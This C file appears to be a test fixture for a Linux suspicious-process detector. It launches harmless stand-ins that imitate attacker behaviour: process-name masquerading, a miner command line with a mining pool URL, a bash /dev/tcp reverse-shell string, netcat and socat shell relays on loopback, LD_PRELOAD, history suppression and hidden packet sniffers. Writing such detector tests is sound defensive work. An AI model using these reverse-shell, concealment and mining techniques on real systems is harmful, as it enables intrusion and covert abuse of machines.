/* SPDX-License-Identifier: MIT */
#include <fcntl.h>
#include <inttypes.h>
#include <linux/capability.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "zoo-memory.h"
#include "zoo.h"

/* A program of the system, asleep. */
static void system_program(void)
{
	const char *const argv[] = { "sleep", "1000000", NULL };

	run("/usr/bin/sleep", argv);
}

static void kernel_name(void)
{
	const char *const argv[] = { "[kworker/0:1]", "1000000", NULL };

	run("/usr/bin/sleep", argv);
}

/* As celery writes its own. */
static void bracket_title(void)
{
	const char *const argv[] = {
		"[celeryd: celery@host:MainProcess] -active- (worker)",
		"1000000", NULL
	};

	run("/usr/bin/sleep", argv);
}

static void daemon_name(void)
{
	const char *const argv[] = { "/usr/sbin/sshd", "1000000", NULL };

	run("/usr/bin/sleep", argv);
}

static void login_name(void)
{
	const char *const argv[] = { "-sleep", "1000000", NULL };

	run("/usr/bin/sleep", argv);
}

/* Nearly all of the descriptors that it may have are open. */
static void open_files(unsigned limit, unsigned n)
{
	struct rlimit most = { limit, limit };
	int fd = open("/dev/null", O_RDONLY);

	while (fd >= 0 && (unsigned)fd + 1 < n)
		fd = dup(fd);
	if (fd < 0 || setrlimit(RLIMIT_NOFILE, &most))
		_exit(2);
}

static void files_at_limit(void)
{
	open_files(200, 196);
}

static void files_below_limit(void)
{
	open_files(400, 196);
}

static void threads300(void)
{
	start_threads(300, sleep_thread);
}

static void leave_zombies(unsigned n)
{
	while (n-- > 0)
		if (fork() == 0)
			_exit(0);
}

static void zombies60(void)
{
	leave_zombies(60);
}

static void zombies5(void)
{
	leave_zombies(5);
}

/* In a file that has no name. */
static void disk_writer(void)
{
	int fd = open(dir, O_TMPFILE | O_RDWR | O_CLOEXEC, 0600);
	static char block[1 << 16];

	close(ready_fd);
	for (off_t at = 0;; at = (at + (off_t)sizeof(block)) & 0xfffff) {
		if (pwrite(fd, block, sizeof(block), at) < 0)
			_exit(2);
		fdatasync(fd);
	}
}

static void miner(void)
{
	const char *const argv[] = { "zoo",
				     "--sleep",
				     "-o",
				     "stratum+tcp://pool.minexmr.com:4444",
				     "--donate-level=1",
				     NULL };

	run("/proc/self/exe", argv);
}

static void miner_reader(void)
{
	const char *const argv[] = { "grep", "--sleep", "-r",
				     "stratum+tcp://pool.minexmr.com:4444",
				     NULL };

	run("/proc/self/exe", argv);
}

/* It waits for the end of the zoo's input, and then ends. */
static void shell_payload(void)
{
	const char *const argv[] = {
		"sh", "-c",
		"read x; exit; bash -i >& /dev/tcp/127.0.0.1/9 0>&1", NULL
	};

	run("/bin/sh", argv);
}

static void shell_job(void)
{
	const char *const argv[] = { "sh", "-c", "read x; exit; make check",
				     NULL };

	run("/bin/sh", argv);
}

/* A shell that is root for a user who is not. */
static void setuid_shell(void)
{
	const char *const argv[] = { "sh", "-p", "-c", "read x; exit", NULL };

	if (setresuid(NOBODY, 0, 0))
		_exit(2);
	die_with_parent();
	run("/bin/sh", argv);
}

static void exe_open(void)
{
	const char *const argv[] = { "zoo", "--sleep", NULL };
	int fd = open(open_path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);

	copy_self(fd);
	if (fchmod(fd, 0777))
		_exit(2);
	close(fd);
	run(open_path, argv);
}

static void sleep_with(const char *variable)
{
	const char *const argv[] = { "sleep", "1000000", NULL };

	run_with("/usr/bin/sleep", argv, variable);
}

static void preload(void)
{
	sleep_with("LD_PRELOAD=libm.so.6");
}

static void preload_of_others(void)
{
	sleep_with("NOT_LD_PRELOAD=libm.so.6");
}

static void library_path_temp(void)
{
	sleep_with("LD_LIBRARY_PATH=/opt/lib:/tmp/lib");
}

static void library_path_own(void)
{
	sleep_with("LD_LIBRARY_PATH=/opt/lib");
}

static void shell_without_history(void)
{
	const char *const argv[] = { "sh", NULL };

	run_with("/bin/sh", argv, "HISTFILE=/dev/null");
}

static void job_without_history(void)
{
	const char *const argv[] = { "sh", "-c", "read x; exit", NULL };

	run_with("/bin/sh", argv, "HISTFILE=/dev/null");
}

static void traced(void)
{
	if (ptrace(PTRACE_TRACEME, 0, NULL, NULL))
		_exit(2);
}

/* A program of that name, which starts a shell: see serve(). */
static void run_server(const char *path, const char *mode)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
	char number[16];
	const char *const argv[] = { path, "--serve", number, mode, NULL };

	copy_self(fd);
	close(fd);
	snprintf(number, sizeof(number), "%d", ready_fd);
	fcntl(ready_fd, F_SETFD, 0);
	run(path, argv);
}

static void server_with_shell(void)
{
	run_server(server_path, "");
}

static void other_with_shell(void)
{
	run_server(other_path, "");
}

static void root_below_nobody(void)
{
	run_server(dropped_path, "drop");
}

void serve(const char *number, const char *mode)
{
	int fd = (int)strtol(number, NULL, 10);
	pid_t self = getpid();
	pid_t pid = fork();

	if (pid == 0) {
		const char *const argv[] = { "sh", NULL };

		die_with_parent();
		fcntl(fd, F_SETFD, FD_CLOEXEC);
		if (getppid() == self)
			run("/bin/sh", argv);
		_exit(0);
	}
	if (mode[0] && setresuid(NOBODY, NOBODY, NOBODY))
		_exit(2);
	die_with_parent();
	close(fd);
	forever();
}

/* Its descriptor 9 tells that the shell is in the middle of it. */
static void run_script(const char *path, const char *text)
{
	const char *const argv[] = { "sh", path, NULL };
	int fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);

	if (write(fd, text, strlen(text)) < 0 || dup2(ready_fd, 9) < 0)
		_exit(2);
	close(fd);
	run("/bin/sh", argv);
}

static void script_deleted(void)
{
	run_script(script_path, "rm -f \"$0\"\nexec 9>&-\nread x\n");
}

static void script_there(void)
{
	run_script(lasting_path, "exec 9>&-\nread x\n");
}

/* Both ends of a connection to ourselves, and what listened for it. */
static void connect_self(int pair[3])
{
	struct sockaddr_in at = { .sin_family = AF_INET };
	socklen_t len = sizeof(at);

	at.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	pair[2] = socket(AF_INET, SOCK_STREAM, 0);
	pair[0] = socket(AF_INET, SOCK_STREAM, 0);
	if (bind(pair[2], (struct sockaddr *)&at, len) || listen(pair[2], 1) ||
	    getsockname(pair[2], (struct sockaddr *)&at, &len) ||
	    connect(pair[0], (struct sockaddr *)&at, len))
		_exit(2);
	pair[1] = accept(pair[2], NULL, NULL);
}

static void shell_on(int fd)
{
	const char *const argv[] = { "sh", NULL };

	if (dup2(fd, 0) < 0 || dup2(fd, 1) < 0)
		_exit(2);
	run("/bin/sh", argv);
}

static void remote_shell(void)
{
	int pair[3];

	connect_self(pair);
	close(pair[2]);
	shell_on(pair[1]);
}

/* As a server has them that talks to another process of this machine. */
static void local_shell(void)
{
	int pair[2];

	if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair))
		_exit(2);
	shell_on(pair[1]);
}

/* Of that name, asleep, with these descriptors for its input and output. */
static void start_copy(const char *path, int in, int out)
{
	pid_t self = getpid();

	if (fork() > 0)
		return;
	die_with_parent();
	if (getppid() != self || dup2(in, 0) < 0 || dup2(out, 1) < 0)
		_exit(2);
	run_copy(path);
}

/*
 * mkfifo f; cat f | sh -i 2>&1 | nc 127.0.0.1 9 >f: what the shell reads is no output of
 * netcat, but what it writes is its input. There is no cat: netcat keeps all other ends.
 */
static void shell_before_netcat(const char *path, int is_connected,
				const char *const argv[])
{
	int pair[3], in[2], between[2], back[2];

	if (is_connected)
		connect_self(pair);
	if (pipe(in) || pipe(between) || pipe(back))
		_exit(2);
	start_copy(path, between[0], back[1]);
	if (dup2(in[0], 0) < 0 || dup2(between[1], 1) < 0)
		_exit(2);
	for (int fd = 3; fd <= back[1]; fd++)
		if (fd != ready_fd)
			close(fd);
	run("/bin/sh", argv);
}

static void relayed_shell(void)
{
	const char *const argv[] = { "sh", "-i", NULL };

	shell_before_netcat(netcat_path, 1, argv);
}

static void unrelayed_shell(void)
{
	const char *const argv[] = { "sh", "-i", NULL };

	shell_before_netcat(netcat2_path, 0, argv);
}

/* As to send what a command makes to another machine. */
static void relayed_job(void)
{
	const char *const argv[] = { "sh", "-c", "read x; exit", NULL };

	shell_before_netcat(netcat3_path, 1, argv);
}

static void shell_of_socat(void)
{
	int pair[3];

	connect_self(pair);
	run_server(socat_path, "");
}

static void sniffer(void)
{
	if (socket(AF_PACKET, SOCK_RAW, 0) < 0)
		_exit(2);
}

/* In descriptors of its own, which /proc/PID/fd does not show. */
static pthread_barrier_t sniffing;

static void *sniff_alone(void *user)
{
	if (unshare(CLONE_FILES))
		_exit(2);
	close(ready_fd);
	sniffer();
	pthread_barrier_wait(&sniffing);
	return sleep_thread(user);
}

static void thread_sniffer(void)
{
	pthread_barrier_init(&sniffing, NULL, 2);
	start_threads(1, sniff_alone);
	pthread_barrier_wait(&sniffing);
}

static void datagrams(void)
{
	if (socket(AF_INET, SOCK_DGRAM, 0) < 0)
		_exit(2);
}

static void temp_listener(void)
{
	int pair[3];

	connect_self(pair);
	run_copy(listener_path);
}

static void system_listener(void)
{
	int pair[3];

	connect_self(pair);
	system_program();
}

/* A shell of nobody that may do what only root may. */
static void capable_shell(void)
{
	struct __user_cap_header_struct head = { _LINUX_CAPABILITY_VERSION_3,
						 0 };
	struct __user_cap_data_struct data[2] = { { 0 } };
	const char *const argv[] = { "sh", "-c", "read x; exit", NULL };

	data[0].effective = data[0].permitted = data[0].inheritable =
		1U << CAP_DAC_OVERRIDE;
	if (prctl(PR_SET_KEEPCAPS, 1) || setresgid(NOBODY, NOBODY, NOBODY) ||
	    setresuid(NOBODY, NOBODY, NOBODY) ||
	    syscall(SYS_capset, &head, data) ||
	    prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_DAC_OVERRIDE, 0, 0))
		_exit(2);
	die_with_parent();
	run("/bin/sh", argv);
}

const struct kind suspects[] = {
	{ "files_at_limit", files_at_limit, 0, 0 },
	{ "files_below_limit", files_below_limit, 0, 0 },
	{ "threads300", threads300, 0, 0 },
	{ "zombies60", zombies60, 0, 0 },
	{ "zombies5", zombies5, 0, 0 },
	{ "disk_writer", disk_writer, 0, 0 },
	{ "system_program", system_program, 0, 1 },
	{ "kernel_name", kernel_name, 0, 1 },
	{ "bracket_title", bracket_title, 0, 1 },
	{ "daemon_name", daemon_name, 0, 1 },
	{ "login_name", login_name, 0, 1 },
	{ "miner", miner, 0, 1 },
	{ "miner_reader", miner_reader, 0, 1 },
	{ "shell_payload", shell_payload, 0, 1 },
	{ "shell_job", shell_job, 0, 1 },
	{ "setuid_shell", setuid_shell, 1, 1 },
	{ "exe_open", exe_open, 0, 1 },
	{ "preload", preload, 0, 1 },
	{ "preload_of_others", preload_of_others, 0, 1 },
	{ "library_path_temp", library_path_temp, 0, 1 },
	{ "library_path_own", library_path_own, 0, 1 },
	{ "shell_without_history", shell_without_history, 0, 1 },
	{ "job_without_history", job_without_history, 0, 1 },
	{ "rwx_memory", rwx_memory, 0, 0 },
	{ "exe_forged", exe_forged, 1, 0 },
	{ "rw_memory", rw_memory, 0, 0 },
	{ "rwx_stack", rwx_stack, 0, 0 },
	{ "memfd_code", memfd_code, 0, 0 },
	{ "memfd_data", memfd_data, 0, 0 },
	{ "temp_code", temp_code, 0, 0 },
	{ "temp_data", temp_data, 0, 0 },
	{ "traced", traced, 0, 0 },
	{ "server_with_shell", server_with_shell, 0, 1 },
	{ "other_with_shell", other_with_shell, 0, 1 },
	{ "root_below_nobody", root_below_nobody, 1, 1 },
	{ "script_deleted", script_deleted, 0, 1 },
	{ "script_there", script_there, 0, 1 },
	{ "capable_shell", capable_shell, 1, 1 },
	{ "remote_shell", remote_shell, 0, 1 },
	{ "local_shell", local_shell, 0, 1 },
	{ "relayed_shell", relayed_shell, 0, 1 },
	{ "unrelayed_shell", unrelayed_shell, 0, 1 },
	{ "relayed_job", relayed_job, 0, 1 },
	{ "shell_of_socat", shell_of_socat, 0, 1 },
	{ "sniffer", sniffer, 1, 0 },
	{ "thread_sniffer", thread_sniffer, 1, 0 },
	{ "datagrams", datagrams, 0, 0 },
	{ "temp_listener", temp_listener, 0, 1 },
	{ "system_listener", system_listener, 0, 1 },
};
const size_t nsuspects = sizeof(suspects) / sizeof(suspects[0]);
